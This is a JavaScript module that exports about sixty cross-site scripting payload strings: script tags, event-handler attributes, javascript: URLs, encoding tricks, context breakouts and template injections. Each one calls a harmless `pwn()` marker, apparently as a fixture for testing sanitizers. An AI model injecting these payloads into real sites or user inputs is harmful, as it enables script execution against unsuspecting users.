// Texts that try to become script. Each calls `pwn()` where something lets it.

const run = "pwn()";

/** Sixty of them: elements, handlers, addresses, ways out of an attribute or a script, encodings, and templates of frameworks. */
export const payloads = [
  ...["script", "ScRiPt", "script/x", "script\t", "svg><script", "math><script", "template><script", "noscript><script"].map((tag) => `<${tag}>${run}</script>`),
  ...["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe", "object data=x", "embed src=x", "link rel=stylesheet href=x", "marquee", "image src=x", "style"]
    .map((tag) => `<${tag} onerror=${run} onload=${run} onfocus=${run} ontoggle=${run} onstart=${run}>`),
  ...["iframe src", "a href", "object data", "embed src", "form action", "base href", "svg><a xlink:href", "math href"].map((tag) => `<${tag}="javascript:${run}">x`),
  ...["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "&#106;avascript:", "javascript&colon;", "data:text/html,<script>", "vbscript:", "\u0001javascript:"].map((scheme) => `${scheme}${run}`),
  ...[`"`, `'`, "`", `">`, `'>`, `" onfocus=${run} autofocus x="`, `' onfocus=${run} autofocus x='`, `"><svg onload=${run}>`, `'><svg onload=${run}>`].map((end) => `${end}<img src=x onerror=${run}>`),
  ...[`</style><script>${run}</script>`, `</script><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<!--<img src="--><img src=x onerror=${run}>`, `</textarea><img src=x onerror=${run}>`],
  ...["{{constructor.constructor('pwn()')()}}", "${pwn()}", "<%= pwn() %>", `\\u003cimg src=x onerror=${run}\\u003e`, `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`],
];
